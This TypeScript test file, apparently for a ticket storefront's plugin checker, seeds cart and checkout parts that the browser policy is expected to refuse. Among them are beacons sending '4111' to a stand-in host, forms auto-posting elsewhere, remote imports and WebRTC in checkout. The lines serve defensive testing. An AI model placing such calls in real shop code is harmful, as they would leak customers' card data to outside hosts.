import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkBuild, checks, describeProblem, openBrowser, type Problem } from '@ticket-storefront/check';
import { findBrowser } from '@ticket-storefront/platform-testing/programs';
import { describeFiles, entriesOfFinished } from '@ticket-storefront/releases';
import { plugIn } from '@ticket-storefront/shop';
import pLimit from 'p-limit';
import { writeFiles } from './testing/finished-build';
import { rowsOf } from './testing/rows-of';
import { cart, checkout, harmlessChanges, type SeededPart, seededBreaches } from './testing/seeded-parts';

/** A part that does one thing of a row of docs/container.md: the row, what it does, and the part. */
type PolicySeed = readonly [row: string, what: string, part: SeededPart];

const ownPolicy = (rules: string) =>
  `const policy = trustedTypes.createPolicy('storefront#remote-cart', { ${rules} });`;
const tried = (code: string) => `try { ${code} } catch {}`;
const elsewhere = 'https://other.invalid/';

/** What a part may not. */
const refusedByPolicy: readonly PolicySeed[] = [
  [
    'run its own scripts and modules, whose hashes browsers check',
    'another script',
    cart({ mount: `import('${elsewhere}a.js').catch(() => {});` }),
  ],
  [
    'run its own scripts and modules, whose hashes browsers check',
    'a worker',
    cart({
      top: ownPolicy('createScriptURL: (url) => url'),
      mount: tried("new Worker(policy.createScriptURL('/worker.js'));"),
    }),
  ],
  [
    'run its own scripts and modules, whose hashes browsers check',
    'text as a script',
    cart({ mount: tried("new Function('return 1')();") }),
  ],
  [
    'run its own scripts and modules, whose hashes browsers check',
    'WebAssembly',
    cart({
      mount: 'WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => {});',
    }),
  ],
  [
    'bring styles in its files, set `element.style`, use constructed style sheets',
    'a style as an attribute',
    cart({ mount: "panel.setAttribute('style', 'margin: 1px');" }),
  ],
  [
    'build its elements with the DOM or a framework',
    'elements as text',
    cart({ mount: tried("panel.innerHTML = '<b>2</b>';") }),
  ],
  [
    'build its elements with the DOM or a framework',
    'a policy of another name',
    cart({ mount: tried("trustedTypes.createPolicy('mine', {});") }),
  ],
  [
    'call the API by `host.api` and `host.catalogue`',
    'a beacon to another host',
    cart({ mount: `navigator.sendBeacon('${elsewhere}', '4111');` }),
  ],
  [
    "show pictures of the asset origin, in `data:`, and of the hosts of its event's pictures",
    'a picture of another host on a checkout',
    checkout({ mount: `new Image().src = '${elsewhere}a.png';` }),
  ],
  [
    "show pictures of the asset origin, in `data:`, and of the hosts of its event's pictures",
    'a picture of another host on the event page',
    cart({ mount: `panel.append(Object.assign(new Image(), { alt: 'Dot', src: '${elsewhere}a.png' }));` }),
  ],
  [
    'use fonts of the asset origin, and in `data:`',
    'a font of another host',
    cart({ mount: `new FontFace('Other', 'url(${elsewhere}a.woff2)').load().catch(() => {});` }),
  ],
  [
    'have forms that go to the storefront',
    'a form that goes elsewhere',
    cart({
      mount: `const form = Object.assign(document.createElement('form'), { action: '${elsewhere}', method: 'post' }); panel.append(form); form.submit();`,
    }),
  ],
  [
    'have forms that go to the storefront',
    'a frame',
    cart({
      mount: `panel.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}', title: 'Frame' }));`,
    }),
  ],
];

/** What a part may, beside the harmless changes of {@link harmlessChanges}. */
const allowedByPolicy: readonly PolicySeed[] = [
  [
    'build its elements with the DOM or a framework',
    'elements as text by its own Trusted Types policy',
    cart({
      top: ownPolicy('createHTML: (text) => text'),
      mount:
        "const note = document.createElement('p'); note.innerHTML = policy.createHTML('<b>2</b>'); panel.append(note);",
    }),
  ],
];

/** A link's title comes from another script, whose hash the browser checks. */
const later = 'document.querySelector(".remote-cart-seeded a")?.setAttribute("title", "Later");';
const laterHash = `sha384-${createHash('sha384').update(later).digest('base64')}`;

const exampleOfModules = join(import.meta.dirname, '../../../e2e/examples/event-modules/built');
const modulesOfExample = readdirSync(exampleOfModules, { recursive: true, encoding: 'utf8' })
  .filter((path) => /\.(mjs|css)$/.test(path))
  .map((path) => [path, readFileSync(join(exampleOfModules, path), 'utf8')] as const);

/** A part of ES modules with chunks. */
const ofModules: SeededPart = {
  ...cart({}),
  part: 'remote-event',
  slot: 'event',
  more: { 'fragment.js': null, 'part.css': null, ...Object.fromEntries(modulesOfExample) },
};

/** Parts of several files that load them later. */
const splitParts: readonly (readonly [what: string, part: SeededPart])[] = [
  ['ES modules with chunks', ofModules],
  [
    'a script that loads another one by its hash',
    {
      ...cart({
        top: `${ownPolicy('createScriptURL: (url) => url')} const folder = document.currentScript.src;`,
        mount: `panel.append(Object.assign(document.createElement('script'), { integrity: '${laterHash}', crossOrigin: 'anonymous', src: policy.createScriptURL(new URL('later.js', folder).href) }));`,
      }),
      more: { 'later.js': later },
    },
  ],
];

/** The same, but the last byte of a file differs from the manifest. */
const changedModules = modulesOfExample
  .filter(([path]) => path.endsWith('.mjs') && !path.endsWith('note.mjs'))
  .map(([path, text]) => [path, { ...ofModules, changed: { [path]: `${text} ` } }] as const);

const importing = (code: string): SeededPart => ({
  ...checkout({ mount: `const later = () => ${code};` }),
  part: 'remote-checkout-stripe',
  slot: 'checkout:stripe',
});

/** Imports that a document with scripts of a processor could not check, and one that it could. */
const imports = {
  computed: importing('import(window.name)'),
  foreign: importing(`import('${elsewhere}a.js')`),
  elsewhere: { ...importing('import(window.name)'), part: 'remote-checkout-acme', slot: 'checkout:acme' },
};

const connecting = (name: string) => `const later = () => new ${name}();`;

/** WebRTC, which no policy refuses. */
const connections = {
  inCheckout: checkout({ mount: connecting('RTCPeerConnection') }),
  byFormerName: checkout({ mount: connecting('webkitRTCPeerConnection') }),
  inCart: cart({ mount: connecting('RTCPeerConnection') }),
};

/** A part that reads a member of the host once a visitor acts. */
const readsGraphql = cart({
  mount:
    "link.remove(); const button = document.createElement('button'); button.textContent = 'More'; button.addEventListener('click', () => host.graphql.query('{ x }', {})); panel.append(button, link);",
});

const atATime = 4;

const root = mkdtempSync(join(tmpdir(), 'checked-'));
const seeded = [
  ...[...seededBreaches, ...refusedByPolicy, ...allowedByPolicy].map(([, , part]) => part),
  ...[...harmlessChanges, ...splitParts, ...changedModules].map(([, part]) => part),
  ...Object.values(imports),
  ...Object.values(connections),
  readsGraphql,
];
const found = new Map<SeededPart, readonly Problem[]>();
const usedBy = new Map<SeededPart, readonly string[]>();

async function checkAll(): Promise<void> {
  const browser = await openBrowser(await findBrowser());
  if (!browser) throw new Error('There is no browser.');
  try {
    await pLimit(atATime).map(seeded, async (seed) => {
      const { server = null, spanish = null } = seed;
      const files = {
        'fragment.js': seed.script,
        'fragment.es.js': spanish,
        'part.css': seed.css,
        'server.js': server,
        ...seed.more,
      };
      const output = writeFiles(mkdtempSync(join(root, 'part-')), files);
      const entries = entriesOfFinished(output, plugIn.languages);
      const manifest = { part: seed.part, version: '1.0.0', files: describeFiles(output), entries };
      writeFiles(output, seed.changed ?? {});
      const build = { output, manifest, slot: seed.slot };
      const { problems, used } = await checkBuild(plugIn, browser, build);
      found.set(seed, problems);
      usedBy.set(seed, used);
    });
  } finally {
    await browser.close();
  }
}

beforeAll(checkAll);
afterAll(() => rmSync(root, { recursive: true }));

test.each(seededBreaches)('a part that %s fails the check %s alone', (_what, check, part) => {
  expect(found.get(part)).toEqual([expect.objectContaining({ check })]);
});

test.each(harmlessChanges)('%s passes every check', (_what, part) => {
  expect(found.get(part)).toEqual([]);
});

test.each(splitParts)('%s pass every check', (_what, part) => {
  expect(found.get(part)).toEqual([]);
});

test.each(changedModules)(
  'a browser does not run modules if %s differs from the manifest in its last byte',
  (_path, part) => {
    expect(found.get(part)).toEqual([expect.objectContaining({ check: 'load', file: 'fragment.mjs' })]);
  },
);

test.each(refusedByPolicy)('a part may %s, but the policy refuses %s', (_row, _what, part) => {
  expect(found.get(part)).toEqual([expect.objectContaining({ check: 'policy' })]);
});

test.each(allowedByPolicy)('a part may %s: %s', (_row, _what, part) => {
  expect(found.get(part)).toEqual([]);
});

test('a check records the members of the host that a part reads, also those that it reads when a visitor acts', () => {
  expect(found.get(readsGraphql)).toEqual([]);
  expect(usedBy.get(readsGraphql)?.toSorted()).toEqual([
    'host.cart',
    'host.cart.on',
    'host.graphql',
    'host.graphql.query',
  ]);
});

test('a checkout with scripts of its processor imports its own files alone, because its document checks no others', () => {
  for (const part of [imports.computed, imports.foreign]) {
    const [problem] = (found.get(part) ?? []).filter(({ check }) => check === 'policy');
    expect(problem).toMatchObject({ file: 'fragment.js', remedy: expect.stringContaining('relative') });
  }
  expect(found.get(imports.elsewhere)).toEqual([]);
});

test('a checkout with WebRTC is refused in a sentence with its file and the remedy, and a cart is not', () => {
  for (const part of [connections.inCheckout, connections.byFormerName]) {
    expect((found.get(part) ?? []).map(describeProblem)).toEqual([
      expect.stringMatching(/fragment\.js has RTCPeerConnection.* a checkout may not use WebRTC/),
    ]);
  }
  expect(found.get(connections.inCart)).toEqual([]);
});

test('each row of the policy in docs/container.md has a refused part', () => {
  const rows = rowsOf('container.md', 'What the policy of a document means for a part').map(([may]) => may);
  expect(rows.length).toBeGreaterThan(5);
  expect(new Set(refusedByPolicy.map(([row]) => row))).toEqual(new Set(rows));
});

test('every check fails for a part, and docs/checking-a-part.md lists it with its remedy', () => {
  const page = readFileSync(join(import.meta.dirname, '../../../docs/checking-a-part.md'), 'utf8');
  const rows = [...page.matchAll(/^\| `([a-z-]+)` \| .+ \| (.+) \|$/gm)].map(([, name, remedy]) => [
    name,
    remedy,
  ]);
  expect(Object.fromEntries(rows)).toEqual(checks);
  expect(new Set(seededBreaches.map(([, check]) => check))).toEqual(new Set(Object.keys(checks)));
});

const foundIn = (name: string) =>
  seededBreaches.filter(([what]) => what === name).flatMap(([, , part]) => found.get(part) ?? []);

test('a style that leaks is reported with its file', () => {
  expect(foundIn('styles all paragraphs in a file')).toEqual([
    expect.objectContaining({ file: 'part.css', seen: expect.stringContaining('a paragraph') }),
  ]);
});

test('a failure in Spanish only is reported with its entry', () => {
  expect(foundIn('throws in Spanish alone').map(describeProblem)).toEqual([
    expect.stringMatching(/^mount \(fragment\.es: fragment\.es\.js\): mount throws \(no\)\. Remedy: /),
  ]);
});
